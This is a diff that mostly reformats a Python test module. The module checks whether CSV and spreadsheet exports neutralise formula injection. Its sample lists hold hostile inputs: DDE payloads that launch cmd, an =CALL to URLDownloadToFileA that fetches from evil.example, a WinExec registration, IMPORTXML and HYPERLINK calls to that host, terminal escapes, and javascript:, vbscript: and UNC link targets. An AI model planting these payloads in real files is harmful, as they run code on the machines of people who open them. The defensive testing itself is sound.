@@ -22,7 +22,20 @@ from made_templates import template_folder  # noqa: E402
 from measured import Measured  # noqa: E402
 
 TRIGGERS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\t=")
-LEADING = ("", " ", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u2060", "\n", "\r\n", "x\n", "a;", "a\t")
+LEADING = (
+    "",
+    " ",
+    "\u00a0",
+    "\u200b",
+    "\ufeff",
+    "\u3000",
+    "\u2060",
+    "\n",
+    "\r\n",
+    "x\n",
+    "a;",
+    "a\t",
+)
 CALLS = (
     "cmd|'/C calc'!A0",
     'HYPERLINK("https://evil.example","click")',
@@ -30,7 +43,7 @@ CALLS = (
 )
 MORE = (
     '=IMPORTXML("https://evil.example","//a")',
-    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
     "=2+5+cmd|' /C calc'!A0",
     "+cmd|' /C notepad'!'A1'",
     "-2+3+cmd|' /C calc'!A0",
@@ -48,9 +61,9 @@ MORE = (
     "--1",
     "=",
     "@",
-    "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"https://evil.example\",\"x\",0,0)",
-    "=EXEC(\"calc\")",
-    "=REGISTER(\"kernel32\",\"WinExec\",\"JCJ\",\"W\",,1,9)",
+    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://evil.example","x",0,0)',
+    '=EXEC("calc")',
+    '=REGISTER("kernel32","WinExec","JCJ","W",,1,9)',
     "sep=;\n=1+1",
     "ok\r=1+1",
 )
@@ -67,9 +80,21 @@ BLANK = " \u00a0\u1680\u2000-\u200f\u2028-\u202f\u205f-\u2064\u3000\ufeff"
 # Where any program would see a formula: the oracle's own words, not factpack's.
 RUNS = re.compile(rf"(?:^|[\r\n;\t])[{BLANK}]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]")
 SIGNED = re.compile(r"[-+]\d[\d.,' \u00a0\u202f]*%?")
-ESCAPES = ("\x1b[2J", "\x1b]0;x\x07", "\x9b31m", "\u202eabc", "a\rb", "\x1b]8;;https://evil.example\x07")
+ESCAPES = (
+    "\x1b[2J",
+    "\x1b]0;x\x07",
+    "\x9b31m",
+    "\u202eabc",
+    "a\rb",
+    "\x1b]8;;https://evil.example\x07",
+)
 ADDRESSES = (
-    *("javascript:alert(1)", "file:///C:/x", "\\\\evil\\share", "ms-excel:ofe|u|https://evil.example"),
+    *(
+        "javascript:alert(1)",
+        "file:///C:/x",
+        "\\\\evil\\share",
+        "ms-excel:ofe|u|https://evil.example",
+    ),
     *("data:text/html,x", "vbscript:x", " https://example.com/a", "https://example.com/b"),
 )
 
@@ -127,7 +152,11 @@ def _csvs(root: Path) -> Measured:
             elif unguarded(text) != given and text != given:
                 wrong = f"it does not come back: {unguarded(text)!r}"
             elif place.startswith("csv/") and text != given:
-                marked = {(each["record"], each["column"]) for q in told["queries"] for each in q["guarded"]}
+                marked = {
+                    (each["record"], each["column"])
+                    for q in told["queries"]
+                    for each in q["guarded"]
+                }
                 wrong = "" if (n + 1, column) in marked else "the manifest does not tell it"
             right += not wrong
             if wrong:
@@ -264,7 +293,9 @@ def _links(root: Path, warm: Warm) -> Measured:
     path = next((root / "lp").glob("*.xlsx"))
     with zipfile.ZipFile(path) as package:
         rels = [package.read(n).decode() for n in package.namelist() if n.endswith(".rels")]
-    targets = [t for each in rels for t in re.findall(r'Target="([^"]*)" TargetMode="External"', each)]
+    targets = [
+        t for each in rels for t in re.findall(r'Target="([^"]*)" TargetMode="External"', each)
+    ]
     bad = [t for t in targets if not t.startswith(("http://", "https://", "mailto:"))]
     of = len(ADDRESSES)
     return Measured(
